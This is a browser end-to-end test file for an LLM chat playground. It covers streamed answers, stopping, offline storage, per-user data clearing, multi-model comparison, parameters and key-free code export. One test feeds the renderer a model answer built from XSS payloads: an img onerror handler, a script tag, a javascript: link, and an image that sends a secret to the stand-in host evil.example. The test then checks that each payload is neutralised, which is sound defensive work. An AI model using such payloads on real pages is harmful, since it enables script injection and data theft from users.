// The playground: streamed answers, stopped and requested again, and their copies on the device.
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { until } from '#tests/support/until.ts';
import { createVisitor, describeInBrowser, type Size, type Visitor } from './support/browser.ts';
import { everythingStored, untilInstalled } from './support/device.ts';
import { type Api, furnish } from './support/furnish.ts';
import { lookInTurn } from './support/in-turn.ts';
import { text } from './support/texts.ts';
import { startTidegate, type Tidegate } from './support/tidegate.ts';
import { expectSoundScreen, settle, signIn } from './support/visit.ts';

const evil = [
  '**bold** <img src=x onerror="window.hurt=1"> <script>window.hurt=1</script>',
  '',
  '[click](javascript:window.hurt=1) ![seen](https://evil.example/seen.png?secret=1)',
  '',
  '```ts',
  'const tide = "<b>high</b>";',
  '```',
].join('\n');

describeInBrowser('playground', () => {
  let tidegate: Tidegate;
  let api: Api;
  beforeAll(async () => {
    tidegate = await startTidegate();
    ({ api } = await furnish(tidegate));
  });
  afterAll(() => tidegate.close());

  const enter = async (size: Size): Promise<Visitor> => {
    tidegate.upstream.reset();
    const visitor = await createVisitor(tidegate.url, { hasServiceWorker: true, size });
    await signIn(visitor);
    await visitor.page.goto('/playground');
    await settle(visitor.page);
    return visitor;
  };

  it.each(lookInTurn(['phone', 'desk'] as const))(
    'on a %s: an answer is drawn as it comes, costs what the log says, and is stopped',
    async (size) => {
      const visitor = await enter(size);
      const { page } = visitor;
      tidegate.upstream.behave({ text: 'The tide turns at noon and again at midnight', reasoning: 'Let me think', holdAfter: 8 });
      await ask(page, 'When does the tide turn?');
      const answer = page.getByRole('article').last();
      await answer.getByText('The tide turns').waitFor();
      await answer.getByText(/^≈ \d\.\d{6} USD$/).waitFor();
      // On a phone the conversation has the whole height.
      expect(await page.getByRole('navigation').count()).toBe(size === 'phone' ? 0 : 1);
      expect(await page.getByRole('link', { name: text('common.action.back'), exact: true }).count()).toBe(size === 'phone' ? 1 : 0);
      await page.getByRole('button', { name: text('playground.ask.stop'), exact: true }).click();
      await answer.getByText(text('playground.answer.state.stopped')).waitFor();
      await until(() => tidegate.upstream.requests.at(-1)?.outcome === 'aborted');
      await answer.getByRole('link', { name: text('playground.answer.receipt') }).waitFor();

      tidegate.upstream.reset();
      tidegate.upstream.behave({ text: 'At noon.' });
      await answer.getByRole('button', { name: text('playground.answer.again') }).click();
      await answer.getByText('At noon.').waitFor();
      await answer.getByText(/\d in · \d+ out/).waitFor();
      await answer.getByText('USD').waitFor();
      await expectSoundScreen(visitor);
      await answer.getByRole('link', { name: text('playground.answer.receipt') }).click();
      await page.getByText('playground-default').first().waitFor();
      await visitor.context.close();
    },
  );

  it('what a model writes cannot run, load or lead anywhere that it should not', async () => {
    const visitor = await enter('desk');
    const { page } = visitor;
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    tidegate.upstream.behave({ pieces: evil.match(/[\s\S]{1,7}/g) ?? [] });
    await ask(page, 'Hurt me');
    const answer = page.getByRole('article').last();
    await answer.getByText('bold', { exact: true }).waitFor();
    await answer.getByText('USD').waitFor();
    expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
    expect(await answer.locator('img, script, iframe').count()).toBe(0);
    expect(await answer.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await answer.getByRole('link', { name: 'seen' }).getAttribute('rel')).toContain('noreferrer');
    expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(await answer.locator('pre').innerText()).toBe('const tide = "<b>high</b>";\n');
    await expectSoundScreen(visitor);
    await visitor.context.close();
  });

  it('a conversation outlives a reload and is read without a network; what was cut short says so', async () => {
    const visitor = await enter('desk');
    const { page } = visitor;
    await untilInstalled(page);
    tidegate.upstream.queue({ text: 'Spring tide.' }, { text: 'one two three four five six', holdAfter: 3 });
    await ask(page, 'Which tide is highest?');
    await page.getByText('Spring tide.').waitFor();
    await page.getByRole('article').last().getByText('USD').waitFor();
    await ask(page, 'And the lowest?');
    await page.getByText('one two').waitFor();
    await until(async () => (await everythingStored(page)).includes('one two'));
    await page.reload();
    await page.getByText('Spring tide.').waitFor();
    await page.getByText(text('playground.answer.state.cut')).waitFor();
    await visitor.context.setOffline(true);
    await page.reload();
    await page.getByText('Spring tide.').waitFor();
    await page.getByText(text('playground.offline')).waitFor();
    expect(await page.getByRole('article').count()).toBe(2);
    await visitor.context.close();
  });

  it('whoever signs in next sees nothing of it, and a sign-out removes it', async () => {
    const visitor = await enter('desk');
    const { page } = visitor;
    tidegate.upstream.behave({ text: 'A secret answer' });
    await ask(page, 'A secret question');
    await page.getByText('A secret answer').waitFor();
    await until(async () => (await everythingStored(page)).includes('A secret answer'));
    // The session ends without a sign-out; another user signs in.
    await visitor.context.clearCookies();
    await page.reload();
    await page.waitForURL('**/login**');
    await signIn(visitor, { username: 'keeper', password: 'another-lantern' });
    await page.goto('/playground');
    await page.getByText(text('playground.greeting')).waitFor();
    await settle(page);
    expect(await page.locator('body').innerText()).not.toContain('secret');
    await signOut(page);
    await signIn(visitor);
    await page.goto('/playground');
    await page.getByText('A secret answer').waitFor();
    await signOut(page);
    await until(async () => !(await everythingStored(page)).includes('secret'));
    await visitor.context.close();
  });

  it('two models answer side by side, each from its own answers', async () => {
    const visitor = await enter('desk');
    const { page } = visitor;
    await page.getByRole('button', { name: text('playground.model.beside') }).click();
    tidegate.upstream.behave({ text: 'Small answer' }, { model: 'gpt-4o-mini' });
    tidegate.upstream.behave({ text: 'Large answer' }, { model: 'gpt-4o' });
    await ask(page, 'First?');
    await page.getByText('Small answer').waitFor();
    await page.getByText('Large answer').waitFor();
    await until(async () => (await page.getByRole('article').getByText('USD').count()) === 2);
    await ask(page, 'Second?');
    await until(() => tidegate.upstream.requests.length === 4);
    for (const { body } of tidegate.upstream.requests.slice(2)) {
      const own = (body as { model: string }).model === 'gpt-4o' ? 'Large answer' : 'Small answer';
      expect(body).toMatchObject({ messages: [{ content: 'First?' }, { role: 'assistant', content: own }, { content: 'Second?' }] });
    }
    await until(async () => (await page.getByRole('article').getByText('USD').count()) === 4);
    await expectSoundScreen(visitor);
    await visitor.context.close();
  });

  it('parameters that are set are sent, and a question is asked in other words', async () => {
    const visitor = await enter('phone');
    const { page } = visitor;
    await page.getByRole('button', { name: text('playground.parameter.title') }).click();
    const sheet = page.getByRole('dialog');
    await sheet.getByLabel(text('playground.parameter.system')).fill('Be brief.');
    await sheet.getByLabel(text('playground.parameter.max_tokens')).fill('50');
    await sheet.getByLabel(text('playground.parameter.seed')).fill('7');
    await sheet.getByRole('slider').fill('0.3');
    await expectSoundScreen(visitor);
    await sheet.getByRole('button', { name: text('common.action.close') }).click();
    await ask(page, 'Hello?');
    const sent = () => tidegate.upstream.requests.at(-1)?.body;
    await until(() => sent() !== undefined);
    expect(sent()).toMatchObject({
      messages: [
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'Hello?' },
      ],
      max_tokens: 50,
      seed: 7,
      temperature: 0.3,
    });
    expect(sent()).not.toHaveProperty('top_p');
    expect(sent()).not.toHaveProperty('group');
    await page.getByRole('article').getByText('USD').waitFor();
    await page.getByRole('button', { name: text('playground.question.edit') }).click();
    await page.getByRole('textbox', { name: text('playground.question.edit') }).fill('Goodbye?');
    await page.getByRole('button', { name: text('playground.question.send'), exact: true }).click();
    await until(() => tidegate.upstream.requests.length === 2);
    expect(sent()).toMatchObject({ messages: [{ role: 'system' }, { role: 'user', content: 'Goodbye?' }] });
    expect(await page.getByText('Hello?').count()).toBe(0);
    await visitor.context.close();
  });

  it('a question does not go without a parameter that cannot be read: it says which, and waits', async () => {
    const visitor = await enter('phone');
    const { page } = visitor;
    await ask(page, 'Hello?');
    await page.getByRole('article').getByText('USD').waitFor();
    await page.getByRole('button', { name: text('playground.parameter.title') }).click();
    const sheet = page.getByRole('dialog');
    await sheet.getByLabel(text('playground.parameter.tools'), { exact: true }).fill('{bad');
    await sheet.getByRole('button', { name: text('common.action.close') }).click();
    await page.getByLabel(text('playground.ask.label')).fill('Use a tool');
    await page.getByText(text('playground.ask.unsendable', { name: text('playground.parameter.tools') })).waitFor();
    expect(await page.getByRole('button', { name: text('playground.ask.send'), exact: true }).isDisabled()).toBe(true);
    expect(await page.getByRole('button', { name: text('playground.answer.again') }).count()).toBe(0);
    await expectSoundScreen(visitor);
    await page.getByRole('button', { name: new RegExp(`^${text('playground.parameter.title')}`) }).click();
    await sheet.getByLabel(text('playground.parameter.tools'), { exact: true }).fill('');
    await sheet.getByRole('button', { name: text('common.action.close') }).click();
    await page.getByRole('button', { name: text('playground.ask.send'), exact: true }).click();
    await until(() => tidegate.upstream.requests.length === 2);
    await visitor.context.close();
  });

  it('on a phone what is needed less often is behind one button, and two models are one press away', async () => {
    const visitor = await enter('phone');
    const { page } = visitor;
    tidegate.upstream.behave({ text: 'At noon.' });
    await ask(page, 'When does the tide turn?');
    await page.getByRole('article').getByText('USD').waitFor();
    const more = page.getByRole('button', { name: text('playground.more'), exact: true });
    const choose = async (key: string) => {
      await more.click();
      await page.getByRole('menuitem', { name: text(key) }).click();
    };
    await more.click();
    await page
      .getByRole('menu')
      .getByText(/^1 answer · \d\.\d{6} USD$/)
      .waitFor();
    await expectSoundScreen(visitor);
    await page.keyboard.press('Escape');
    await choose('playground.conversation.all');
    await page
      .getByRole('dialog')
      .getByRole('button', { name: text('common.action.close') })
      .click();
    await choose('playground.export.open');
    await page.getByRole('dialog').getByRole('button', { name: 'curl', exact: true }).waitFor();
    await page.keyboard.press('Escape');
    await choose('playground.conversation.new');
    await page.getByText(text('playground.greeting')).waitFor();
    const beside = page.getByRole('button', { name: text('playground.model.beside') });
    await beside.click();
    await page.getByRole('group', { name: text('playground.model.shown') }).waitFor();
    expect(await beside.getAttribute('aria-pressed')).toBe('true');
    await expectSoundScreen(visitor);
    await visitor.context.close();
  });

  it('a picture goes along, and the code that is exported has no key', async () => {
    const visitor = await enter('desk');
    const { page } = visitor;
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
    await page.setInputFiles('input[type=file]', { name: 'dot.png', mimeType: 'image/png', buffer: png });
    await page.getByAltText('dot.png').waitFor();
    await ask(page, "What's this?");
    await until(() => tidegate.upstream.requests.length === 1);
    const url = expect.stringMatching(/^data:image\/jpeg;base64,/);
    expect(tidegate.upstream.requests[0]?.body).toMatchObject({
      messages: [{ content: [{ type: 'text' }, { type: 'image_url', image_url: { url } }] }],
    });
    await page.getByRole('article').getByText('USD').waitFor();
    await page.getByRole('button', { name: text('playground.export.open') }).click();
    const dialog = page.getByRole('dialog');
    for (const name of ['curl', 'Python', 'JavaScript']) {
      await dialog.getByRole('button', { name, exact: true }).click();
      const code = await dialog.getByRole('region', { name }).innerText();
      expect(code).toContain('TIDEGATE_API_KEY');
      expect(code).toContain(`${tidegate.url}/v1`);
      expect(code).not.toMatch(/sk-\w/);
    }
    await expectSoundScreen(visitor);
    await visitor.context.close();
  });

  it('a refusal is told in the words of the server', async () => {
    await api.post('/api/user/', { username: 'pauper', password: 'empty-pockets', display_name: 'Pauper' });
    tidegate.upstream.reset();
    const visitor = await createVisitor(tidegate.url, { size: 'phone' });
    await signIn(visitor, { username: 'pauper', password: 'empty-pockets' });
    const { page } = visitor;
    await page.goto('/playground');
    await settle(page);
    const notice = await page.getByText(text('shell.credit.none')).boundingBox();
    expect(notice?.x, 'kept from the edge').toBeGreaterThanOrEqual(16);
    await ask(page, 'Anything?');
    await page.getByRole('alert').getByText('user quota is not enough').waitFor();
    await page.getByText(text('playground.answer.state.failed')).waitFor();
    expect(tidegate.upstream.requests).toEqual([]);
    await visitor.context.close();
  });
});

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole('textbox', { name: text('playground.ask.label') }).fill(question);
  await page.getByRole('button', { name: text('playground.ask.send'), exact: true }).click();
}

async function signOut(page: Page): Promise<void> {
  await page.getByRole('banner').getByRole('button').last().click();
  await page.getByText(text('session.logout.action'), { exact: true }).click();
  await page.waitForURL('**/login**');
}
